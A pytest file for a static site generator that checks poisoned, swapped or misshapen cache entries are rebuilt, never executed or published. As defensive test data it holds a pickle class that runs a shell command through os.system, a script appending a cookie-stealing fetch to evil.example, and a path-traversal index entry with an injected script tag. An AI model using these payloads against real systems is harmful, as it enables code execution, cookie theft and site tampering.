"""Caches are untrusted input: nothing in one runs code, reaches the published site unchecked,
or stops a build. A poisoned, foreign, swapped or misshapen entry is a miss, made again."""

from __future__ import annotations

import json
import os
import pickle
import shutil
from pathlib import Path

import pytest

from sitegen.annotate import cache as annotate_cache
from sitegen.build import build
from sitegen.documents import _KEPT
from sitegen.model import Annotation, Origin
from sitegen.runtime import data
from tests.conftest import project_at, quiet
from tests.core.test_analysis_cache import fresh_site
from tests.core.test_build import site_files

ANALYSED = ".sitegen-cache/analysed"
SEARCH = ".sitegen-cache/search"


class RunsACommand:
    """Unpickling this runs a shell command: what a poisoned pickle cache would do."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def cache_files(root: Path, folder: str) -> list[Path]:
    return sorted(p for p in (root / folder).rglob("*") if p.is_file())


def reseal(entry: Path, body: bytes) -> None:
    """Replace an entry's body, sealed under the key it had, with its hash right: what someone
    who can write the cache and knows the format can do."""
    key = data.sealed_under(entry.read_bytes())
    assert key is not None, f"{entry} is not a sealed entry"
    entry.write_bytes(data.seal(key, body))


def test_caches_a_pickle_that_would_run_code_runs_nothing(tiny, tmp_path):
    build(project_at(tiny), log=quiet)
    marker = tmp_path / "the-cache-ran-code"
    payload = pickle.dumps(RunsACommand(f"touch {marker}"))
    entries = cache_files(tiny, ANALYSED)
    assert len(entries) == 6  # each document's analysis, its claims brief and what was derived from it
    for number, entry in enumerate(entries):
        if number % 2:  # as the cache seals, with the key it was made under
            reseal(entry, data.compress(payload))
        else:  # the layout before: the key, then the compressed pickle
            entry.write_bytes(entry.read_bytes()[:32] + data.compress(payload))
    build(project_at(tiny), log=quiet)
    assert not marker.exists(), "a cache entry ran code"
    assert site_files(tiny / "site") == fresh_site(tiny, tmp_path)


def _beyond_the_text() -> bytes:
    origin = Origin("machine", "entities.rules", "1", "registry")
    far = Annotation("entity", 10_000, 10_005, (), (("name", "Kyiv"),), (origin,), 1.0, "", "kyiv")
    return data.pack(((far,), (), ()))


MISSHAPEN = {
    "another type": lambda: data.pack(["not", "an", "analysis"]),
    "a field of another type": lambda: data.pack(((("entity", "0", 4),), (), ())),
    "annotations beyond the text": _beyond_the_text,
    "not packed": lambda: b"\x00" * 64,
}


@pytest.mark.parametrize("body", MISSHAPEN.values(), ids=list(MISSHAPEN))
def test_caches_an_analysis_of_another_shape_is_made_again(tiny, tmp_path, body):
    build(project_at(tiny), log=quiet)
    for entry in cache_files(tiny, ANALYSED):
        if entry.suffix != ".derived":
            reseal(entry, body())
    build(project_at(tiny), log=quiet)
    assert site_files(tiny / "site") == fresh_site(tiny, tmp_path)


@pytest.mark.parametrize("suffix", ["", ".brief"], ids=["analyses", "claims briefs"])
def test_caches_analyses_swapped_between_documents_are_made_again(tiny, tmp_path, suffix):
    build(project_at(tiny), log=quiet)
    first, second = (e for e in cache_files(tiny, ANALYSED) if e.suffix == suffix)
    one, other = first.read_bytes(), second.read_bytes()
    first.write_bytes(other)
    second.write_bytes(one)
    build(project_at(tiny), log=quiet)
    assert site_files(tiny / "site") == fresh_site(tiny, tmp_path)


def test_caches_derived_parts_with_misshapen_pieces_are_made_again(tiny, tmp_path):
    # The pieces inside are decoded later, in other processes: they are checked on the way in.
    build(project_at(tiny), log=quiet)
    for entry in cache_files(tiny, ANALYSED):
        if entry.suffix == ".derived":
            body = data.unseal(entry.read_bytes(), data.sealed_under(entry.read_bytes()) or b"")
            assert body is not None
            blob, bounds, digest, entries, exports = data.unpack(body, _KEPT)
            junk = bytes([0xC1]) * len(blob)  # 0xc1 is never used in MessagePack
            reseal(entry, data.pack((junk, bounds, digest, b"\xc1" * len(entries), exports)))
    build(project_at(tiny), log=quiet)
    assert site_files(tiny / "site") == fresh_site(tiny, tmp_path)


def _proposal_row(start: int, end: int) -> list[object]:
    return ["entity", start, end, [], [["name", "Kyiv"]], [["machine", "entities.rules", "1", "registry", 0]], 1.0, ""]


def test_caches_annotate_entries_swapped_between_documents_are_refused(tmp_path):
    from tests.annotate.test_pipeline import _proposal

    one, other = "ab" * 32, "cd" * 32
    annotate_cache.store(tmp_path, one, (_proposal(),))
    annotate_cache.store(tmp_path, other, ())
    first, second = annotate_cache.entry_path(tmp_path, one), annotate_cache.entry_path(tmp_path, other)
    swapped = first.read_bytes(), second.read_bytes()
    first.write_bytes(swapped[1])
    second.write_bytes(swapped[0])
    assert annotate_cache.load(tmp_path, one) is None
    assert annotate_cache.load(tmp_path, other) is None
    facts = annotate_cache.facts_path(tmp_path, one)
    annotate_cache.store_facts(tmp_path, other, annotate_cache.load_facts(tmp_path, one) or _no_facts())
    shutil.copyfile(annotate_cache.facts_path(tmp_path, other), facts)
    assert annotate_cache.load_facts(tmp_path, one) is None


def _no_facts():  # type: ignore[no-untyped-def]
    from sitegen.annotate.consolidate import Facts

    return Facts((), ())


ANNOTATE_MISSHAPEN = {
    "an object": {"proposals": []},
    "a row too short": [["entity", 0, 4]],
    "a string for an offset": [["entity", "0", 4, [], [], [], 1.0, ""]],
    "a list for a kind": [[["entity"], 0, 4, [], [], [], 1.0, ""]],
    "an unknown origin kind": [["entity", 0, 4, [], [], [["plugin", "x", "1", "r", 0]], 1.0, ""]],
    "beyond the text": [_proposal_row(0, 500)],
    "the wrong way round": [_proposal_row(4, 2)],
    "a part beyond the text": [["claim", 0, 4, [["source", 0, 900]], [], [], 1.0, ""]],
}


@pytest.mark.parametrize("rows", ANNOTATE_MISSHAPEN.values(), ids=list(ANNOTATE_MISSHAPEN))
def test_caches_an_annotate_entry_of_another_shape_is_a_miss(tmp_path, rows):
    key = "ef" * 32
    annotate_cache.store(tmp_path, key, ())
    reseal(annotate_cache.entry_path(tmp_path, key), json.dumps(rows).encode())
    assert annotate_cache.load(tmp_path, key, length=100) is None
    annotate_cache.store(tmp_path, key, ())
    assert annotate_cache.load(tmp_path, key, length=100) == ()


def _search_files(root: Path) -> list[Path]:
    return [p for p in cache_files(root, SEARCH) if p.name != "index.json"]


def test_caches_a_script_written_into_a_cached_shard_is_never_published(tiny, tmp_path):
    build(project_at(tiny), log=quiet)
    payload = b";fetch('https://evil.example/?'+document.cookie);"
    cached = _search_files(tiny)
    assert cached
    for path in cached:
        with open(path, "ab") as handle:
            handle.write(payload)
    build(project_at(tiny), log=quiet)
    published = site_files(tiny / "site")
    assert not any(payload in content for content in published.values())
    assert published == fresh_site(tiny, tmp_path)
    assert not any(payload in path.read_bytes() for path in _search_files(tiny)), "the cache was made again"


def test_caches_editing_the_published_search_data_leaves_the_cache_alone(tiny, tmp_path):
    build(project_at(tiny), log=quiet)
    cached = {p.name: p.read_bytes() for p in _search_files(tiny)}
    published = sorted((tiny / "site/search").rglob("*.js"))
    assert published
    for path in published:
        with open(path, "r+b") as handle:  # in place, as an editor or a deploy script might
            handle.write(b"/*edited*/")
    assert {p.name: p.read_bytes() for p in _search_files(tiny)} == cached
    cached_inodes = {p.stat().st_ino for p in _search_files(tiny)}
    build(project_at(tiny), log=quiet)
    site = tiny / "site"
    assert not cached_inodes & {p.stat().st_ino for p in site.rglob("*") if p.is_file()}
    assert site_files(site) == fresh_site(tiny, tmp_path)


def test_caches_a_search_index_naming_paths_outside_search_is_a_miss(tiny, tmp_path):
    build(project_at(tiny), log=quiet)
    from sitegen.output.write import content_digest

    (index,) = (tiny / SEARCH).glob("*/index.json")
    listed = json.loads(index.read_text())
    escape = tiny.parent / "escaped.html"  # where site/../../escaped.html would land from staging
    source = index.parent / "files" / "../../escaped.html"
    source.parent.mkdir(parents=True, exist_ok=True)
    source.write_bytes(b"<script>alert(1)</script>")
    listed["files"]["../../escaped.html"] = content_digest(source.read_bytes())
    listed["files"]["index.html"] = content_digest(source.read_bytes())
    index.write_text(json.dumps(listed))
    build(project_at(tiny), log=quiet)
    assert not escape.exists() and not (tiny / "escaped.html").exists()
    assert site_files(tiny / "site") == fresh_site(tiny, tmp_path)
